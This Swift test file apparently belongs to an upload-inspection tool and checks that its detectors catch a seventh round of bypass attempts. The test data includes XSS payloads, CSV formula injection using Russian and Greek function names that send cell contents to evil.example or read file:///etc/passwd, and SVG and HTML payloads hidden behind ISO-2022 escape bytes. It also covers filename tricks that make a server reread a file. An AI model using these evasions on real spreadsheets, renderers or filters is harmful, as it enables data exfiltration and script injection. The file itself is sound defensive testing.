import AirlockCore
import Foundation
import Testing

@testable import Inspection

/// Attack round 7 on inspection: variants of each class it found, and the benign controls.
struct Round7Tests {
    static let payload = "<img src=x onerror=alert(1)>"

    /// A spreadsheet in another language calls functions by names in its own script (Russian LibreOffice and Excel:
    /// ВЕБСЛУЖБА is WEBSERVICE, ГИПЕРССЫЛКА is HYPERLINK, ДВССЫЛ is INDIRECT); a name is letters of any script.
    @Test(arguments: [
        "=ВЕБСЛУЖБА(\"https://evil.example/?\"&B1),secret\n",
        "=ГИПЕРССЫЛКА(\"file:///etc/passwd\";\"invoice\")\n",
        "=ДВССЫЛ(\"'file:///etc/passwd'#$passwd.A1\")\n",
        "=SUM(A1)+ΥΠΗΡΕΣΙΑΙΣΤΟΥ(\"https://evil.example\"),x\n",  // Greek
        "=ВЕБСЛУЖБА\u{00A0}(\"https://evil.example\"),x\n",  // a no-break space before the parenthesis
        "x,-1+ВЕБСЛУЖБА(\"https://evil.example\")\n",
        "=Ä1(\"https://evil.example\"),x\n",
    ])
    func aFormulaCallingAFunctionNamedInAnotherScriptIsFound(_ csv: String) {
        let findings = TextActiveContent.findings(in: Array(csv.utf8), csv: true)
        #expect(findings.contains { $0.contains("not a function known to be harmless") }, "\(csv) \(findings)")
    }

    /// Cells in other scripts that call nothing, or call listed functions, stay clean.
    @Test func cellsInOtherScriptsThatCallNothingStayClean() {
        for csv in [
            "имя,сумма\nАда,=SUM(B2:B9)\nБоб,100\n",
            "名前,合計\n田中,=ROUND(AVERAGE(B2:B9),2)\n",
            "note\nпривет (мир)\n",
            "total,'Лист1'!A1\n",
        ] {
            #expect(TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
        }
    }

    /// A fenced block is left out of the browser checks only if every line starts with something no renderer without
    /// fence support starts a block with. Python-Markdown's margin is any Unicode white space; kramdown ends a
    /// paragraph at `: ` definitions, `^`, `{:` attribute lists and tags named `_x`.
    @Test(arguments: [
        "\u{00A0}", "\u{000C}", "\u{000B}", "\u{2003}", "\u{3000}", "\u{0085}", "\u{001F}", " \u{00A0}", "\u{2028}",
    ])
    func aFenceLineStartingWithOtherWhiteSpaceBeforeATagIsJudged(_ margin: String) {
        for tag in ["<p>", "<div>"] {
            let text = "# Notes\n\n```js\nconst a = 1;\n\(margin)\(tag)\(Self.payload)\(tag.replacingOccurrences(of: "<", with: "</"))\n```\n"
            #expect(!Round13Tests.markdown(text).isEmpty, "\(text.debugDescription)")
        }
    }

    @Test(arguments: [
        ": term", "^", "{:.x}", "{: #id}", "{:name: .x}", "<_x>", "$$", "| a | b |", "  : indented definition", "<5",
    ])
    func aFenceLineThatEndsAKramdownParagraphIsJudged(_ line: String) {
        let text = "# Notes\n\n```js\nconst a = 1;\n\(line)\n\(Self.payload)\n```\n"
        #expect(!Round13Tests.markdown(text).isEmpty, "\(text.debugDescription)")
    }

    /// Ordinary code in fences stays clean: letters, digits, brackets, operators, comments, strings, shell prompts.
    @Test func ordinaryFencedCodeStaysClean() {
        let text = """
            # Use

            ```js
            // a comment
            const el = document.createElement("img");
            $ npm install
            (function () { return el; })();
            }
            * not a list here
            1. nor here
            ~/.config/app
                <div class="box">indented</div>
            @decorator
            ```
            """
        #expect(Round13Tests.markdown(text).isEmpty, "\(Round13Tests.markdown(text))")
    }

    /// Markup a browser runs is found inside a fence too (seven attack rounds each found a fence one renderer passes
    /// through as HTML): a code sample showing an event handler is active content.
    @Test func activeMarkupInsideAFenceIsFound() {
        for fence in ["```", "~~~", "````"] {
            let text = "# Use\n\n\(fence)html\n<img src=x onerror=go()>\n\(fence)\n"
            #expect(!Round13Tests.markdown(text).isEmpty, "\(text.debugDescription)")
        }
    }
}

/// How a server may read a file other than as Airlock did: an Apache type map, a character set named by an inner
/// extension, ISO-2022 escapes that a decoder shows as nothing (attack round 7).
struct Round7ServerReadingTests {
    @Test(arguments: [
        "notes.var.txt", "notes.var.csv", "notes.VAR.md", "logo.jis.svg", "logo.iso2022-jp.svg", "a.utf7.txt", "a.utf16le.svg",
        "a.sjis.csv", "a.big5.txt", "a.euc-kr.md", "a.gb2312.svg", "a.kis.txt", "a.x.ucs-2.txt",
    ])
    func innerExtensionsThatMakeAServerRereadTheFileAreRefused(_ name: String) {
        #expect(FilenamePolicy.problem(with: name)?.code == .filenameInvalid, "\(name)")
    }

    /// Single-byte character sets keep ASCII; ordinary dotted names stay accepted.
    @Test(arguments: ["report.latin1.txt", "notes.koi8-r.txt", "report.ua.pdf", "v1.2.svg", "example.com.csv", "var.txt", "jis.svg"])
    func otherDottedNamesStayAccepted(_ name: String) {
        #expect(FilenamePolicy.problem(with: name) == nil, "\(name)")
    }

    static let escape = "\u{1B}(B"

    /// ISO-2022's escape and shift bytes in markup (XML allows none of them) are refused: a decoder drops them, and
    /// what Airlock reads split is whole there.
    @Test(arguments: [
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@imp\(escape)ort url(https://evil.example/x.css);</style></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><a xlink:href=\"java\(escape)script:alert(1)\"><rect width=\"9\" height=\"9\"/></a></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>\u{0E}x\u{0F}</text></svg>",
    ])
    func characterSetSwitchesInMarkupAreFound(_ svg: String) {
        #expect(!MarkupActiveContent.findings(in: Array(svg.utf8)).isEmpty, "\(svg.debugDescription)")
    }

    /// Text is also read as an ISO-2022-JP decoder shows it: `<scr ESC(B ipt>` is `<script>` there.
    @Test(arguments: [
        "<h1>Notes</h1><scr\(escape)ipt>document.title=1</scr\(escape)ipt>\n",
        "<img src=x on\(escape)error=alert(1)>\n",
        "<a href=\"java\u{1B}$B\u{1B}(Bscript:alert(1)\">x</a>\n",
    ])
    func textIsAlsoReadWithoutISO2022Escapes(_ text: String) {
        #expect(!TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text.debugDescription)")
        #expect(!TextActiveContent.findings(in: Array(text.utf8), markdown: true).isEmpty, "\(text.debugDescription)")
    }

    /// Japanese ISO-2022-JP prose (a two-byte run between escapes) and terminal colours stay clean.
    @Test func iso2022ProseAndTerminalColoursStayClean() {
        let japanese = "\u{1B}$B$3$s$K$A$O\u{1B}(B world\n"
        let colours = "\u{1B}[31merror\u{1B}[0m: build failed\n"
        #expect(TextActiveContent.findings(in: Array(japanese.utf8)).isEmpty)
        #expect(TextActiveContent.findings(in: Array(colours.utf8)).isEmpty)
    }

    /// A CSV formula calling finance, statistics or dynamic-array functions is an ordinary spreadsheet.
    @Test func ordinaryFinanceAndArrayFormulasStayClean() {
        let csv = "loan,rate\n=PMT(B2/12,360,-A2),=NPV(0.1,C2:C9)\n=OFFSET(A1,1,0),=SORT(UNIQUE(FILTER(A2:A9,B2:B9>0)))\n"
        #expect(TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty)
    }
}

/// A margin renderers read differently anywhere in the file ends every fence exemption: Python-Markdown opens a raw
/// HTML block at `NBSP<div>` that runs over blank lines to `</div>`, and a fence inside it is raw HTML there.
struct Round7MarginTests {
    @Test(arguments: ["\u{00A0}", "\u{000C}", "\u{000B}", "\u{2003}", "\u{3000}", "\u{0085}", "\u{001C}", "  \u{00A0}"])
    func aDisputedMarginBeforeAnHTMLBlockEndsTheExemption(_ margin: String) {
        let text = "# Notes\n\n\(margin)<div>\n\n```html\n\(Round7Tests.payload)\n```\n\n</div>\n"
        #expect(!Round13Tests.markdown(text).isEmpty, "\(text.debugDescription)")
    }
}
